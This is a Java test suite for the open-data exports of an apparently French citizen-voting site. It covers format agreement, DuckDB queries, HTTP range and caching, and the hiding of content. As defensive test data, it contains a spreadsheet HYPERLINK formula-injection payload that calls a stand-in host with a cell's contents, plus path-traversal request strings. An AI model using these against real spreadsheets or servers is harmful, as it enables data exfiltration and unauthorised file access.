package fr.voix.site.export;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import fr.voix.CountedStatements;
import fr.voix.Npm;
import fr.voix.base.answer.PublicVersion;
import fr.voix.base.deployment.DataFolderConfig;
import fr.voix.base.deployment.PublicUrl;
import fr.voix.base.load.BusyException;
import fr.voix.base.load.Entrance;
import fr.voix.base.load.Pressure;
import fr.voix.theme.theme.ScrutinFixture;
import fr.voix.theme.theme.ThemeService;
import fr.voix.urn.log.UrnPublishing;
import fr.voix.vote.ballot.TestBallots;
import fr.voix.vote.scrutin.Scrutin;
import fr.voix.vote.scrutin.ScrutinHiding;
import fr.voix.vote.scrutin.ScrutinOpening;
import io.micronaut.context.annotation.Property;
import io.micronaut.json.JsonMapper;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import jakarta.inject.Named;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Collectors;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.ResourceLock;
import org.slf4j.LoggerFactory;

/** All there is, in files: what they say, since when, to whom, and what happens when none can be made. */
@MicronautTest(transactional = false)
@Property(name = CountedStatements.ON, value = "true")
@ResourceLock(CountedStatements.ON)
class ExportTest {

    private static final String FORMULA = "=HYPERLINK(\"https://x.example?\"&A1,\"a\"), «\u202fbcd\u202f»\nsuite";

    @Inject
    EmbeddedServer server;

    @Inject
    ExportService exports;

    @Inject
    ExportWriter writer;

    @Inject
    ExportRepository rows;

    @Inject
    PublicUrl publicUrl;

    @Inject
    ExportStore store;

    @Inject
    PublicVersion publicVersion;

    @Inject
    @Named("exports")
    Entrance entrance;

    @Inject
    JsonMapper json;

    @Inject
    ScrutinFixture fixture;

    @Inject
    ScrutinOpening scrutins;

    @Inject
    TestBallots ballots;

    @Inject
    ThemeService themes;

    @Inject
    ScrutinHiding hidings;

    @Inject
    UrnPublishing publications;

    @TempDir
    Path folder;

    private final HttpClient http = HttpClient.newHttpClient();
    private String uid;

    @BeforeEach
    void somethingToExport() {
        uid = fixture.aScrutin(0, LocalDate.of(2026, 1, 9));
        ballots.cast(scrutin(uid), 5);
        themes.classify(uid, List.of("sport-vie-associative", "sante"), fixture.aModerator(), FORMULA);
        publications.publish();
    }

    private Scrutin scrutin(String which) {
        return scrutins.find(which).orElseThrow();
    }

    @Test
    void other_peoples_readers_find_the_same_in_all_forms_and_it_is_what_the_service_says() throws Exception {
        var npm = Npm.with(
                "exports", "hyparquet@1.33.0", "hyparquet-compressors@1.1.2", "csv-parse@7.0.3", "datapackage@1.1.10");
        aRollCall();
        exports.make();
        // their readers ask once, and a machine with other classes on it answered 503 to one: it is waited for
        for (int i = 0; i < 50 && get("/exports/decomptes.csv").statusCode() == 503; i++) {
            Thread.sleep(200);
        }
        // the footer of a Parquet file is fetched as a range, over HTTP
        var said = json.readValue(npm.module(READER, "", origin()).getBytes(UTF_8), Map.class);

        var row = rows(said, "decomptes").get(uid);
        var tally = json.readValue(get("/api/v1/scrutins/" + uid + "/tally").body(), Map.class);
        for (var field : List.of("pour", "contre", "abstention", "total", "size", "root", "state")) {
            assertThat(row.get(field)).as(field).isEqualTo(tally.get(field));
        }
        assertThat(row)
                .containsEntry("themes", "sport-vie-associative sante")
                .containsEntry("pour_0", tally.get("pour"))
                .containsEntry("pour_1", 0)
                .containsEntry("closed_at", null)
                .containsEntry("page", origin() + "/17/amendements/2247/CION_FIN/" + row.get("numero"))
                .containsEntry("depose_on", "2026-01-09")
                .containsEntry("auteur", "PA1")
                .containsEntry("auteur_nom", "Ada Martin")
                .containsEntry("mission", "Sécurités")
                .containsEntry("titre", "Financer les sports")
                .containsEntry("titre_en", null)
                .containsEntry("resume", "Donne des moyens aux clubs.")
                .containsEntry("scrutin_public", "VTANR5L17V7")
                .containsEntry("officiel_sort", "rejete")
                .containsEntry("officiel_contre", 1)
                .containsEntry("avertissement", "échantillon non représentatif (not a representative sample)");
        assertThat(Instant.parse(row.get("tally_at").toString())).isBeforeOrEqualTo(Instant.now());
        var scrutin = json.readValue(get("/api/v1/scrutins/" + uid).body(), Map.class);
        assertThat(row.get("sort")).isEqualTo(((Map<?, ?>) scrutin.get("amendement")).get("sort"));
        assertThat(count(said, "decomptes"))
                .isEqualTo(fixture.number("select count(*) from scrutin join amendement using (uid) where is_shown"));
        assertThat(count(said, "historique")).isEqualTo(fixture.number("select count(*) from tally_history"));
        assertThat(count(said, "classements")).isEqualTo(fixture.number("select count(*) from scrutin_theme"));
        assertThat(rows(said, "decisions").get(uid))
                .containsEntry("reason", FORMULA)
                .containsEntry("themes_before", null)
                .containsEntry("themes_after", "sport-vie-associative sante")
                .doesNotContainKeys("moderator_id", "moderator");
        assertThat(rows(said, "scrutins_publics").get("VTANR5L17V7"))
                .containsEntry("numero", 7)
                .containsEntry("vote_on", "2026-01-20")
                .containsEntry("requis", null)
                .containsEntry("amendements", uid)
                .containsEntry("page", origin() + "/scrutins-publics/7")
                .containsEntry("source", "https://www.assemblee-nationale.fr/dyn/17/scrutins/7");
        assertThat(rows(said, "scrutins_publics").get("VTANR5L15V7"))
                .containsEntry("amendements", null)
                .containsEntry("page", origin() + "/scrutins-publics/15-7");
        assertThat(rows(said, "positions"))
                .containsEntry("VTANR5L17V7 PA1", position("PA1", "PO1", "contre", true, null, "pour", "abstention"))
                .containsEntry("VTANR5L17V7 PA2", position("PA2", null, "non_votant", false, "PSE", null, null))
                .containsEntry("VTANR5L17V7 PA3", position("PA3", null, null, false, null, "non_votant", null));
        assertThat(rows(said, "acteurs").get("PA1"))
                .containsEntry("nom", "Martin")
                .containsEntry("numero_departement", "2A")
                .containsEntry("page", origin() + "/deputes/ada-martin");
        assertThat(rows(said, "groupes").get("PO1"))
                .containsEntry("debut_on", "2024-07-18")
                .containsEntry("fin_on", null)
                .containsEntry("page", origin() + "/groupes/g1");
        assertThat(said.get("guarded")).isEqualTo("'" + FORMULA);
        assertThat(said.get("metadata").toString())
                .contains("voix.avertissement.fr", "n’est pas un sondage", "voix.description.en");
    }

    @Test
    void ten_queries_of_the_documentation_run_in_duckdb_and_no_column_needs_quotes() throws Exception {
        fixture.run("""
                insert into groupe (uid, libelle, sigle, debut_on, fingerprint, slug)
                values ('PO8', 'Groupe Huit', 'G8', '2024-07-18', '', 'g8')""");
        fixture.run("""
                insert into acteur (uid, civilite, prenom, nom, groupe_uid, numero_departement, fingerprint, slug)
                values ('PA8', 'Mme', 'Eve', 'Huit', 'PO8', '2A', '', 'eve-huit')""");
        fixture.run("""
                insert into scrutin_public (uid, numero, legislature, vote_on, type_vote, titre, sort, votants, exprimes, pour,
                    contre, abstentions, non_votants, fingerprint)
                values ('VTANR5L17V8', 8, 17, '2026-01-20', 'SPO', 'l''amendement n° 8', 'REJETE', 577, 500, 400, 100, 0, 1, '')""");
        fixture.run("""
                insert into scrutin_public_vote (scrutin_public_uid, acteur_uid, groupe_uid, position, par_delegation, cause)
                values ('VTANR5L17V8', 'PA8', 'PO8', 'CONTRE', true, null)""");
        fixture.run("insert into scrutin_public_amendement values ('VTANR5L17V8', ?, false)", uid);
        fixture.run("update amendement set groupe_uid = 'PO8', sort = 'REJETE' where uid = ?", uid);
        ballots.cast(scrutin(uid), 240);
        publications.publish();
        exports.make();
        var export = exports.current().orElseThrow();
        var files = store.file(export, export.files().getFirst()).getParent();
        var queries = Files.readString(Path.of("src/docs/queries.sql")).split(";\\s*\\n");
        assertThat(queries).hasSize(10);
        try (var duck = DriverManager.getConnection("jdbc:duckdb:");
                var statement = duck.createStatement()) {
            statement.execute("set file_search_path = '" + files + "'");
            for (var dataset : Dataset.values()) {
                var columns = dataset.columns().stream().map(Column::name).collect(Collectors.joining(", "));
                for (var end : List.of(".parquet", ".csv")) {
                    statement.executeQuery("select " + columns + " from '" + dataset.slug() + end + "'");
                }
            }
            var found = new ArrayList<String>();
            for (var query : queries) {
                try (var rows = statement.executeQuery(query)) {
                    found.add(lines(rows));
                }
            }
            assertThat(found.get(0)).as("most votes").containsPattern(uid + " .* 245 .* open ");
            assertThat(found.get(1)).as("by group").contains("Groupe Huit 1 245 ");
            assertThat(found.get(2)).as("by theme").contains("sport-vie-associative ");
            assertThat(found.get(3)).as("by hour").contains(uid);
            assertThat(found.get(4)).as("citizens and deputies").containsPattern(uid + " .* 80.0\n");
            assertThat(found.get(5)).as("a group in a roll-call").contains("VTANR5L17V8 G8 contre 1\n");
            assertThat(found.get(6)).as("by delegation").contains("Eve Huit 1 1\n");
            assertThat(found.get(7)).as("what waits").isEmpty();
            assertThat(found.get(8)).as("petitions").isEmpty();
            assertThat(found.get(9)).as("wrong sums").isEqualTo("0\n");
            try (var rows = statement.executeQuery("select sort from 'decomptes.csv' where scrutin = '" + uid + "'")) {
                assertThat(lines(rows)).as("the word of the API").isEqualTo("rejete\n");
            }
        }
    }

    private static String lines(ResultSet rows) throws SQLException {
        var lines = new StringBuilder();
        while (rows.next()) {
            for (int i = 1; i <= rows.getMetaData().getColumnCount(); i++) {
                lines.append(i == 1 ? "" : " ").append(rows.getString(i));
            }
            lines.append('\n');
        }
        return lines.toString();
    }

    /** With an author, a summary and corrections; and one of an older legislature, about nothing that is here. */
    private void aRollCall() {
        fixture.run("""
                insert into groupe (uid, libelle, sigle, debut_on, fingerprint, slug)
                values ('PO1', 'Groupe Un', 'G1', '2024-07-18', '', 'g1')""");
        fixture.run("""
                insert into acteur (uid, civilite, prenom, nom, groupe_uid, numero_departement, fingerprint, slug)
                values ('PA1', 'Mme', 'Ada', 'Martin', 'PO1', '2A', '', 'ada-martin')""");
        fixture.run("""
                insert into scrutin_public (uid, numero, legislature, vote_on, type_vote, titre, sort, votants, exprimes, pour,
                    contre, abstentions, non_votants, fingerprint)
                values ('VTANR5L17V7', 7, 17, '2026-01-20', 'SPO', 'l''amendement n° 7', 'REJETE', 1, 1, 0, 1, 0, 1, ''),
                    ('VTANR5L15V7', 7, 15, '2020-01-20', 'SPO', 'l''article 7', 'ADOPTE', 1, 1, 1, 0, 0, 0, '')""");
        fixture.run("""
                insert into scrutin_public_vote (scrutin_public_uid, acteur_uid, groupe_uid, position, par_delegation, cause)
                values ('VTANR5L17V7', 'PA1', 'PO1', 'CONTRE', true, null),
                    ('VTANR5L17V7', 'PA2', null, 'NON_VOTANT', false, 'PSE')""");
        fixture.run("""
                insert into scrutin_public_correction (scrutin_public_uid, acteur_uid, position, is_failure)
                values ('VTANR5L17V7', 'PA1', 'POUR', false), ('VTANR5L17V7', 'PA1', 'ABSTENTION', true),
                    ('VTANR5L17V7', 'PA3', 'NON_VOTANT', false)""");
        fixture.run("insert into scrutin_public_amendement values ('VTANR5L17V7', ?, false)", uid);
        fixture.run("""
                update amendement
                set auteur_uid = 'PA1', title = '{"text": "Financer les sports", "origin": "EXPOSE"}'
                where uid = ?""", uid);
        fixture.run(
                """
                insert into summary (scrutin_uid, question_sha256, texte, state, written_by, written_at, decided_by, decided_at)
                values (?, sha256(''), 'Donne des moyens aux clubs.', 'APPROVED', ?, now(), ?, now())""",
                uid,
                fixture.aModerator().moderatorId(),
                fixture.aModerator().moderatorId());
    }

    private static Map<String, Object> position(
            String acteur,
            String groupe,
            String position,
            boolean delegated,
            String cause,
            String wish,
            String failure) {
        var row = new LinkedHashMap<String, Object>();
        row.put("scrutin_public", "VTANR5L17V7");
        row.put("acteur", acteur);
        row.put("groupe", groupe);
        row.put("position", position);
        row.put("par_delegation", delegated);
        row.put("cause", cause);
        row.put("mise_au_point", wish);
        row.put("dysfonctionnement", failure);
        return row;
    }

    @Test
    void every_dataset_is_one_query_however_much_there_is() throws Exception {
        fixture.run("""
                insert into scrutin_public (uid, numero, legislature, vote_on, type_vote, titre, sort, votants, exprimes, pour,
                    contre, abstentions, non_votants, fingerprint)
                select 'VTANR5L14V' || n, n, 14, '2015-01-20', 'SPO', 'l''article', 'ADOPTE', 99, 99, 99, 0, 0, 0, ''
                from generate_series(1, 120) n""");
        fixture.run("""
                insert into scrutin_public_vote (scrutin_public_uid, acteur_uid, position, par_delegation)
                select 'VTANR5L14V' || n, 'PA' || p, 'POUR', false
                from generate_series(1, 120) n, generate_series(1, 99) p""");
        var before = CountedStatements.count();
        var written = writer.write(Files.createDirectory(folder.resolve("counted")));
        assertThat(written.counts().get(Dataset.POSITIONS)).isGreaterThanOrEqualTo(120 * 99L);
        // with what the service does by the clock meanwhile
        assertThat(CountedStatements.count() - before).isLessThan(Dataset.values().length + 10L);
        fixture.run("delete from scrutin_public where legislature = 14");
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Map<String, Object>> rows(Map<?, ?> said, String dataset) {
        return (Map<String, Map<String, Object>>) ((Map<?, ?>) said.get(dataset)).get("byScrutin");
    }

    private static long count(Map<?, ?> said, String dataset) {
        return ((Number) ((Map<?, ?>) said.get(dataset)).get("count")).longValue();
    }

    @Test
    void the_same_state_is_the_same_bytes_and_is_made_once() throws Exception {
        exports.make();
        var first = exports.current().orElseThrow();
        exports.make();
        assertThat(exports.current().orElseThrow()).isSameAs(first);

        var again = Files.createDirectory(folder.resolve("again"));
        assertThat(writer.write(again).at()).isEqualTo(first.at());
        for (var file : first.files()) {
            assertThat(Files.mismatch(store.file(first, file), again.resolve(file.name())))
                    .as(file.name())
                    .isEqualTo(-1);
            assertThat(HexFormat.of()
                            .formatHex(MessageDigest.getInstance("SHA-256")
                                    .digest(Files.readAllBytes(store.file(first, file)))))
                    .isEqualTo(file.sha256());
        }

        ballots.cast(scrutin(uid), 1);
        exports.make();
        assertThat(exports.current().orElseThrow().at()).isAfter(first.at());
    }

    @Test
    void all_files_are_of_one_instant_while_votes_come_in() throws Exception {
        var second = fixture.aScrutin(0, LocalDate.of(2026, 1, 9));
        var isOver = new AtomicBoolean();
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            var votes = threads.submit(() -> {
                while (!isOver.get()) {
                    ballots.cast(scrutin(uid), 3);
                    ballots.cast(scrutin(second), 2);
                }
            });
            try {
                for (int round = 0; round < 4; round++) {
                    assertOneInstant(Files.createDirectory(folder.resolve("round" + round)));
                }
            } finally {
                isOver.set(true);
            }
            votes.get();
        }
    }

    private void assertOneInstant(Path written) throws IOException {
        writer.write(written);
        var last = new HashMap<Object, Map<?, ?>>();
        rows(written.resolve("historique.ndjson")).forEach(row -> last.put(row.get("scrutin"), row));
        assertThat(last).containsKey(uid);
        for (var row : rows(written.resolve("decomptes.ndjson"))) {
            var hour = last.get(row.get("scrutin"));
            // an urn that a fixture filled has no history
            if (hour != null) {
                for (var field : List.of("size", "pour", "contre", "abstention")) {
                    assertThat(row.get(field)).as(field).isEqualTo(hour.get(field));
                }
            }
        }
    }

    private List<Map<?, ?>> rows(Path ndjson) throws IOException {
        var rows = new ArrayList<Map<?, ?>>();
        for (var line : Files.readAllLines(ndjson)) {
            rows.add(json.readValue(line, Map.class));
        }
        return rows;
    }

    @Test
    void many_who_ask_at_once_get_one_export() throws Exception {
        exports.make();
        ballots.cast(scrutin(uid), 1);
        var database = exports.current().orElseThrow().state().databaseId();
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            var made = threads.invokeAll(Collections.nCopies(16, (Callable<Boolean>) exports::make));
            var done = new ArrayList<Boolean>();
            for (var one : made) {
                done.add(one.get());
            }
            assertThat(done).contains(true);
        }
        var root = store.file(
                        exports.current().orElseThrow(),
                        exports.current().orElseThrow().files().getFirst())
                .getParent()
                .getParent();
        assertThat(root).hasFileName(database);
        try (var folders = Files.list(root)) {
            // the one before stays for whoever is reading it
            assertThat(folders)
                    .hasSizeLessThanOrEqualTo(2)
                    .noneMatch(one -> one.toString().endsWith(".part"));
        }
    }

    @Test
    void what_is_hidden_is_gone_at_once_and_the_rest_comes_back() throws Exception {
        exports.make();
        assertThat(get("/exports/historique.csv").body()).contains(uid);
        hidings.hide(uid, "Le texte contient l’adresse d’un particulier.", null);

        for (var file : List.of("decomptes.csv", "historique.ndjson", "classements.parquet", "datapackage.json")) {
            var refused = get("/exports/" + file);
            assertThat(refused.statusCode()).as(file).isEqualTo(503);
            assertThat(refused.headers().firstValue("retry-after")).contains("10");
            assertThat(refused.body()).contains("/api/v1/problems/export-not-ready");
        }
        assertThat(get("/exports/decomptes.csv", "Accept", "text/html").body()).contains("<h1");
        assertThat(get("/exports").body()).contains("en train d’être faits", "Dictionnaire");

        exports.refresh();
        for (var dataset : Dataset.values()) {
            var served = get("/exports/" + dataset.slug() + ".csv");
            assertThat(served.statusCode()).isEqualTo(200);
            assertThat(served.body()).doesNotContain(uid);
        }
        hidings.unhide(uid);
        assertThat(get("/exports/decomptes.csv").statusCode()).as("it may wait").isEqualTo(200);
    }

    @Test
    void a_file_can_be_asked_for_under_conditions_and_in_parts() throws Exception {
        exports.make();
        var whole = bytes("/exports/decomptes.csv");
        assertThat(whole.headers().map())
                .containsEntry("content-type", List.of("text/csv;charset=utf-8;header=present"))
                .containsEntry("access-control-allow-origin", List.of("*"))
                .containsEntry("accept-ranges", List.of("bytes"))
                .containsEntry("content-length", List.of(Integer.toString(whole.body().length)))
                .containsKey("last-modified")
                .doesNotContainKeys("content-encoding", "set-cookie");
        assertThat(new String(whole.body(), UTF_8))
                .startsWith("scrutin,numero,texte,")
                .endsWith("\r\n");
        var etag = whole.headers().firstValue("etag").orElseThrow();
        var changed = whole.headers().firstValue("last-modified").orElseThrow();

        var zipped = bytes("/exports/decomptes.csv", "Accept-Encoding", "gzip");
        assertThat(zipped.headers().firstValue("content-encoding")).contains("gzip");
        assertThat(zipped.headers().firstValue("etag"))
                .isNotEqualTo(whole.headers().firstValue("etag"));
        assertThat(new GZIPInputStream(new ByteArrayInputStream(zipped.body())).readAllBytes())
                .isEqualTo(whole.body());

        assertThat(bytes("/exports/decomptes.csv", "If-None-Match", etag).statusCode())
                .isEqualTo(304);
        assertThat(bytes("/exports/decomptes.csv", "If-Modified-Since", changed).statusCode())
                .isEqualTo(304);
        assertThat(bytes("/exports/decomptes.csv", "If-None-Match", "\"x\"", "If-Modified-Since", changed)
                        .statusCode())
                .isEqualTo(200);

        var part = bytes("/exports/decomptes.csv", "Range", "bytes=10-19", "If-Range", etag);
        assertThat(part.statusCode()).isEqualTo(206);
        assertThat(part.headers().firstValue("content-range")).contains("bytes 10-19/" + whole.body().length);
        assertThat(part.body()).isEqualTo(Arrays.copyOfRange(whole.body(), 10, 20));
        assertThat(bytes("/exports/decomptes.csv", "Range", "bytes=-4").body())
                .isEqualTo(Arrays.copyOfRange(whole.body(), whole.body().length - 4, whole.body().length));
        assertThat(bytes("/exports/decomptes.csv", "Range", "bytes=10-19", "If-Range", "\"x\"")
                        .body())
                .isEqualTo(whole.body());
        var beyond = bytes("/exports/decomptes.csv", "Range", "bytes=99999999-");
        assertThat(beyond.statusCode()).isEqualTo(416);
        assertThat(beyond.headers().firstValue("content-range")).contains("bytes */" + whole.body().length);

        var preflight = http.send(
                request("/exports/decomptes.parquet")
                        .headers("Origin", "https://journal.example", "Access-Control-Request-Method", "GET")
                        .method("OPTIONS", HttpRequest.BodyPublishers.noBody())
                        .build(),
                BodyHandlers.discarding());
        assertThat(preflight.headers().firstValue("access-control-allow-headers"))
                .contains("If-None-Match, If-Range, Range");

        var head = http.send(
                request("/exports/decomptes.csv")
                        .method("HEAD", HttpRequest.BodyPublishers.noBody())
                        .build(),
                BodyHandlers.ofByteArray());
        assertThat(head.statusCode()).isEqualTo(200);
        assertThat(head.body()).isEmpty();
        assertThat(head.headers().firstValue("content-length")).contains(Integer.toString(whole.body().length));
        assertThat(head.headers().firstValue("etag")).contains(etag);
    }

    @Test
    void every_file_is_kept_under_a_name_of_ours() throws Exception {
        exports.make();
        for (var file : List.of("decomptes.csv", "classements.ndjson", "historique.csv")) {
            for (var query : List.of("", "?filename=planted.html")) {
                assertThat(get("/exports/" + file + query).headers().allValues("Content-Disposition"))
                        .singleElement()
                        .asString()
                        .matches("attachment; filename=\"voix-%s-\\d{4}-\\d\\d-\\d\\d\\.%s\""
                                .formatted((Object[]) file.split("\\.")));
            }
        }
    }

    @Test
    void there_is_nothing_else_there() throws Exception {
        exports.make();
        for (var address : List.of(
                "/exports/bulletins.csv",
                "/exports/decomptes.xlsx",
                "/exports/decomptes",
                "/exports/decomptes.csv.gz",
                "/exports/DECOMPTES.csv",
                "/exports/export.json",
                "/exports/..%2Fkeys.csv",
                "/exports/%2e%2e/decomptes.csv",
                "/exports/.csv",
                "/en/exports/decomptes.csv")) {
            assertThat(get(address, "Accept", "application/json").statusCode())
                    .as(address)
                    .isEqualTo(404);
        }
    }

    @Test
    void the_page_says_what_there_is_in_both_languages() throws Exception {
        exports.make();
        var export = exports.current().orElseThrow();
        for (var path : List.of("/exports", "/en/exports")) {
            var page = get(path);
            assertThat(page.statusCode()).isEqualTo(200);
            for (var file : export.files()) {
                assertThat(page.body()).contains("href=\"/exports/" + file.name() + "\"", file.sha256());
            }
            for (var column : Dataset.DECOMPTES.columns()) {
                assertThat(page.body()).contains("<code translate=\"no\">" + column.name() + "</code>");
            }
        }
        assertThat(get("/exports").body()).contains("un échantillon représentatif", "Licence Ouverte");
        assertThat(get("/en/exports").body()).contains("not a representative sample", "an apostrophe");
        assertThat(get("/donnees-ouvertes").body()).contains("href=\"/exports\"");
    }

    @Test
    void what_a_former_process_made_is_taken_up_when_it_is_whole() throws Exception {
        exports.make();
        var made = exports.current().orElseThrow();
        var restarted = service(store, Clock.systemUTC());
        assertThat(restarted.current()).isEmpty();
        restarted.refresh();
        assertThat(restarted.current()).contains(made);

        Files.writeString(store.file(made, made.files().getFirst()), "torn");
        var again = service(store, Clock.systemUTC());
        again.refresh();
        assertThat(again.current().orElseThrow().folder()).isNotEqualTo(made.folder());
        assertThat(again.current().filter(store::isWhole)).isPresent();
    }

    @Test
    void a_change_waits_for_its_time_and_what_was_hidden_while_nobody_ran_does_not() throws Exception {
        var clock = new SetClock(Instant.parse("2026-11-25T12:00:00Z"));
        var paced = service(new ExportStore(new DataFolderConfig(folder.toString(), "a"), json), clock);
        paced.refresh();
        var first = paced.current().orElseThrow();
        ballots.cast(scrutin(uid), 1);
        clock.now = clock.now.plus(Duration.ofMinutes(9));
        paced.refresh();
        assertThat(paced.current()).contains(first);
        clock.now = clock.now.plus(Duration.ofMinutes(1));
        paced.refresh();
        assertThat(paced.current().orElseThrow().folder()).isNotEqualTo(first.folder());

        hidings.hide(uid, "Motif.", null);
        var restarted = service(new ExportStore(new DataFolderConfig(folder.toString(), "a"), json), clock);
        restarted.refresh();
        var remade = restarted.current().orElseThrow();
        assertThat(remade.withheld()).contains(uid);
        hidings.unhide(uid);
    }

    @Test
    void a_folder_that_cannot_be_written_is_said_once_and_harms_nothing_else() throws Exception {
        Files.writeString(folder.resolve("exports"), "a file where a folder should be");
        var nowhere = new ExportStore(new DataFolderConfig(folder.toString(), ""), json);
        var clock = new SetClock(Instant.parse("2026-11-25T12:00:00Z"));
        var job = new ExportJob(service(nowhere, clock), clock);
        var log = (Logger) LoggerFactory.getLogger(ExportJob.class);
        var said = new ListAppender<ILoggingEvent>();
        said.start();
        log.addAppender(said);
        for (int i = 0; i < 3; i++) {
            job.run();
            clock.now = clock.now.plus(Duration.ofMinutes(1));
        }
        log.detachAppender(said);
        assertThat(said.list).hasSize(1);
        assertThat(get("/health").statusCode()).isEqualTo(200);
    }

    @Test
    void a_full_disk_leaves_the_last_export_where_it_is() throws Exception {
        exports.make();
        var full = Files.createDirectory(folder.resolve("full"));
        Files.createSymbolicLink(full.resolve("decomptes.ndjson"), Path.of("/dev/full"));
        assertThatThrownBy(() -> writer.write(full)).isInstanceOf(UncheckedIOException.class);
        assertThat(get("/exports/decomptes.ndjson").statusCode()).isEqualTo(200);
    }

    @Test
    void an_export_under_way_gives_way_to_votes() throws Exception {
        var pressure = new Pressure(() -> 0);
        pressure.report(1);
        var pressed = new ExportWriter(rows, publicUrl, pressure, Clock.systemUTC());
        assertThatThrownBy(() -> pressed.write(folder)).isInstanceOf(BusyException.class);
    }

    private ExportService service(ExportStore where, Clock clock) {
        return new ExportService(
                writer, where, publicVersion, entrance, clock, new ExportConfig(Duration.ofMinutes(10)), null);
    }

    private static final class SetClock extends Clock {

        private volatile Instant now;

        SetClock(Instant now) {
            this.now = now;
        }

        @Override
        public Instant instant() {
            return now;
        }

        @Override
        public ZoneOffset getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            return this;
        }
    }

    private String origin() {
        return "http://localhost:" + server.getPort();
    }

    private HttpRequest.Builder request(String path, String... headers) {
        var request = HttpRequest.newBuilder(URI.create(origin() + path));
        return headers.length == 0 ? request : request.headers(headers);
    }

    private HttpResponse<String> get(String path, String... headers) throws Exception {
        return http.send(request(path, headers).build(), BodyHandlers.ofString());
    }

    private HttpResponse<byte[]> bytes(String path, String... headers) throws Exception {
        return http.send(request(path, headers).build(), BodyHandlers.ofByteArray());
    }

    /** Reads everything over HTTP, holds the three forms against each other and the dictionary, and prints the rows. */
    private static final String READER = """
            import assert from 'node:assert/strict'
            import { createHash } from 'node:crypto'
            import { asyncBufferFromUrl, parquetMetadataAsync, parquetReadObjects } from 'hyparquet'
            import { compressors } from 'hyparquet-compressors'
            import { parse } from 'csv-parse/sync'
            import datapackage from 'datapackage'

            const origin = process.argv[2]
            const description = await (await fetch(origin + '/exports/datapackage.json')).json()
            const described = await datapackage.Package.load(description, { basePath: origin + '/exports' })
            assert.deepEqual(described.errors, [])
            assert.ok(described.valid)
            const said = {}
            const unguarded = cell => cell.replace(/^'(?=[\\s"'«»]*[-=+@])/u, '')
            for (const csv of description.resources.filter(one => one.format === 'csv')) {
                const dataset = csv.name.replace(/-csv$/, '')
                const fields = csv.schema.fields
                const cell = (text, field) => text === '' ? null
                    : field.type === 'integer' ? Number(text)
                    : field.type === 'boolean' ? text === 'true'
                    : field.type === 'datetime' ? new Date(text).toISOString()
                    : unguarded(text)
                const text = Buffer.from(await (await fetch(origin + '/exports/' + csv.path)).arrayBuffer())
                assert.equal('sha256:' + createHash('sha256').update(text).digest('hex'), csv.hash)
                assert.equal(text.length, csv.bytes)
                const raw = parse(text, { columns: true })
                assert.equal(raw.length, csv.rows)
                assert.deepEqual(parse(text)[0], fields.map(field => field.name))
                const fromCsv = raw.map(row => Object.fromEntries(fields.map(f => [f.name, cell(row[f.name], f)])))
                const lines = (await (await fetch(origin + `/exports/${dataset}.ndjson`)).text()).split('\\n')
                assert.equal(lines.pop(), '')
                const dated = value => value instanceof Date ? value.toISOString() : value
                const fromJson = lines.map(line => JSON.parse(line)).map(row => Object.fromEntries(fields.map(f =>
                    [f.name, f.type === 'datetime' && row[f.name] ? new Date(row[f.name]).toISOString() : row[f.name]])))
                assert.deepEqual(fromJson, fromCsv)
                const file = await asyncBufferFromUrl({ url: origin + `/exports/${dataset}.parquet` })
                const metadata = await parquetMetadataAsync(file)
                const objects = await parquetReadObjects({ file, metadata, compressors })
                const fromParquet = objects.map(row => Object.fromEntries(fields.map(f => {
                    const value = f.type === 'date' ? dated(row[f.name] ?? null)?.slice(0, 10) ?? null : dated(row[f.name] ?? null)
                    if (f.type === 'integer' && value !== null) assert.equal(typeof value, 'bigint')
                    return [f.name, typeof value === 'bigint' ? Number(value) : value]
                })))
                assert.deepEqual(fromParquet, fromCsv)
                // tableschema reads every cell by its declared type, and refuses what is not of it
                const table = await described.getResource(csv.name).read({ keyed: true })
                assert.equal(table.length, raw.length)
                said[dataset] = { count: raw.length, byScrutin: Object.fromEntries(fromJson.map(row =>
                    [row.scrutin ?? csv.schema.primaryKey.map(key => row[key]).join(' '), row])) }
                said.metadata = metadata.key_value_metadata
                said.guarded ??= raw.map(row => row.reason).find(reason => reason?.startsWith("'="))
            }
            console.log(JSON.stringify(said))
            """;
}
